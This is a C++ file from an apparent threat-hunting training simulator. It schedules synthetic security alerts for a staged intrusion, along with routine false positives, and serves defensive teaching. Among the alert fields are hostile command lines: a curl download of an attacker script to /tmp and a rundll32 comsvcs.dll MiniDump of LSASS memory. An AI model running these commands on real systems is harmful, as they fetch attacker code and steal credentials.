// What the company's detections raise: some because of the attack, most weeks some because of nothing.
#include <utility>

#include "scenario/story/attack.hpp"
#include "scenario/story/script.hpp"

namespace huntbook::scenario {

namespace {

constexpr std::string_view servers_product = "Microsoft Defender for Cloud";
constexpr std::string_view servers_provider = "Detection";
constexpr std::string_view rules_product = "Azure Sentinel";
constexpr std::string_view rules_provider = "ASI Scheduled Alerts";
constexpr std::string_view cloud_product = "Microsoft Cloud App Security";
constexpr std::string_view cloud_provider = "MCAS";
constexpr Ticks detection_takes = 20 * ticks_per_minute;

Alert of_servers(std::string_view name, std::string_view type, std::string_view severity) {
  Alert alert;
  alert.name = name;
  alert.type = type;
  alert.severity = severity;
  alert.product = servers_product;
  alert.provider = servers_provider;
  return alert;
}

// Raises alerts some minutes after what they are about.
class Alarm {
 public:
  Alarm(Tenant& tenant, const Company& company) : tenant_(tenant), company_(company) {}

  void raise(Ticks about, Ticks length, std::string_view stage, std::string_view technique, Alert alert) {
    prepare(about, length, alert);
    alert.tactics = stage;
    alert.technique = technique;
    Label label{stage, technique, std::string("alert: ") + std::string(alert.name)};
    const Ticks raised = alert.end + detection_takes;
    company_.world.at(raised, std::move(label), [&tenant = tenant_, alert = std::move(alert)] { tenant.raise(alert); });
  }
  void raise_in_error(Ticks about, Ticks length, Alert alert) {
    prepare(about, length, alert);
    const Ticks raised = alert.end + detection_takes;
    company_.world.at(raised, [&tenant = tenant_, alert = std::move(alert)] { tenant.raise(alert); });
  }

 private:
  void prepare(Ticks about, Ticks length, Alert& alert) const {
    alert.begin = company_.period.begin + about;
    alert.end = alert.begin + length;
  }
  Tenant& tenant_;
  const Company& company_;
};

}  // namespace

void raise_alerts_on_the_attack(Tenant& tenant, const Company& company, const std::string& linux_host,
                                const std::string& windows_host) {
  Alarm alarm(tenant, company);
  Alert ssh = of_servers("Successful SSH brute force attack", "VM_SshBruteForceSuccess", "High");
  ssh.description = "Several users tried to log in by SSH from one address; one of them got in after failures.";
  ssh.host = linux_host;
  ssh.account = "deploy";
  ssh.addresses = {std::string(botnet_address)};
  alarm.raise(linux_night, 85 * ticks_per_minute, credential_access, "T1110", ssh);

  Alert fetched = of_servers("Detected file download from a known malicious source", "VM_SuspectDownload", "Medium");
  fetched.description = "A file was downloaded from an address that threat intelligence knows, and made executable.";
  fetched.host = linux_host;
  fetched.account = "deploy";
  fetched.addresses = {std::string(botnet_address)};
  fetched.process = "/usr/bin/curl";
  fetched.command_line = "curl -fsSL " + std::string(script_url) + " -o /tmp/.kw.sh";
  alarm.raise(linux_night + 85 * ticks_per_minute, ticks_per_minute, command_and_control, "T1105", fetched);

  Alert beacon;
  beacon.name = "Traffic to an address of a threat report";
  beacon.type = "TI map IP entity to network flows";
  beacon.severity = "Medium";
  beacon.product = rules_product;
  beacon.provider = rules_provider;
  beacon.description = "A flow to or from an address that the threat feed lists.";
  beacon.host = linux_host;
  beacon.addresses = {std::string(control_address)};
  alarm.raise(linux_night + 2 * ticks_per_hour, ticks_per_hour, command_and_control, "T1071", beacon);

  Alert rdp = of_servers("Successful RDP brute force attack", "VM_LoginBruteForceSuccess", "High");
  rdp.description = "A logon by remote desktop succeeded after many failures from the same address.";
  rdp.host = windows_host;
  rdp.account = "itsupport";
  rdp.addresses = {std::string(botnet_address)};
  alarm.raise(windows_first_night, 20 * ticks_per_minute, credential_access, "T1110", rdp);

  Alert dump = of_servers("Suspected dump of credentials", "VM_LsassDump", "High");
  dump.description = "The memory of the local security authority was written to a file.";
  dump.host = windows_host;
  dump.account = "itsupport";
  dump.process = "C:\\Windows\\System32\\rundll32.exe";
  dump.command_line = "rundll32  C:\\Windows\\System32\\comsvcs.dll, MiniDump 696 C:\\Windows\\Temp\\d.dmp full";
  alarm.raise(windows_first_night + 30 * ticks_per_minute, ticks_per_minute, credential_access, "T1003", dump);

  Alert cleared = of_servers("Security log cleared", "VM_EventLogCleared", "Medium");
  cleared.description = "The security log of a host was cleared.";
  cleared.host = windows_host;
  cleared.account = "itsupport";
  alarm.raise(windows_first_night + 32 * ticks_per_minute, ticks_per_minute, defense_evasion, "T1070", cleared);

  Alert download;
  download.name = "Mass download by a single user";
  download.type = "MCAS_ALERT_ANUBIS_DETECTION_REPEATED_ACTIVITY_DOWNLOAD";
  download.severity = "Medium";
  download.product = cloud_product;
  download.provider = cloud_provider;
  download.description = "A user downloaded more than 400 files within ten minutes.";
  download.account = office_victim(company).mail;
  download.addresses = {std::string(botnet_address)};
  alarm.raise(cloud_evening + 10 * ticks_per_minute, 12 * ticks_per_minute, exfiltration, "T1530", download);
}

void raise_alerts_on_nothing(Tenant& tenant, const Company& company, const std::string& windows_host) {
  Alarm alarm(tenant, company);
  for (int week = 0; week < company.period.days / 7; ++week) {
    const Ticks monday = week * 7 * ticks_per_day;
    Alert inventory = of_servers("Suspicious PowerShell command line", "VM_EncodedCommand", "Medium");
    inventory.description = "An encoded command was run.";
    inventory.host = windows_host;
    inventory.account = "adm_rourke";
    inventory.process = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    inventory.command_line = "powershell.exe -NoLogo -enc ZwBjAGkAIABEADoAXABTAGgAYQByAGUAcwA=";
    alarm.raise_in_error(monday + 2 * ticks_per_day + 90 * ticks_per_minute, ticks_per_minute, inventory);

    Alert scan = of_servers("Traffic from a scanning address", "VM_PortScan", "Low");
    scan.description = "An address tried several ports and names.";
    scan.host = windows_host;
    scan.addresses = {"192.0.2.117"};
    alarm.raise_in_error(monday + 4 * ticks_per_day + 5 * ticks_per_hour, ticks_per_hour, scan);
  }
  Alert travel;
  travel.name = "Impossible travel activity";
  travel.type = "MCAS_ALERT_ANUBIS_DETECTION_VELOCITY";
  travel.severity = "Medium";
  travel.product = cloud_product;
  travel.provider = cloud_provider;
  travel.description = "One user signed in from two countries within a short time.";
  travel.account = company.people[3].mail;
  travel.addresses = {"192.0.2.201", std::string(company_office_address)};
  alarm.raise_in_error(14 * ticks_per_day + 9 * ticks_per_hour, ticks_per_hour, travel);

  Alert books;
  books.name = "Mass download by a single user";
  books.type = "MCAS_ALERT_ANUBIS_DETECTION_REPEATED_ACTIVITY_DOWNLOAD";
  books.severity = "Medium";
  books.product = cloud_product;
  books.provider = cloud_provider;
  books.description = "A user downloaded more than 100 files within ten minutes.";
  books.account = company.people.front().mail;
  books.addresses = {company.people.front().public_address};
  alarm.raise_in_error(25 * ticks_per_day + 14 * ticks_per_hour, 8 * ticks_per_minute, books);
}

}  // namespace huntbook::scenario
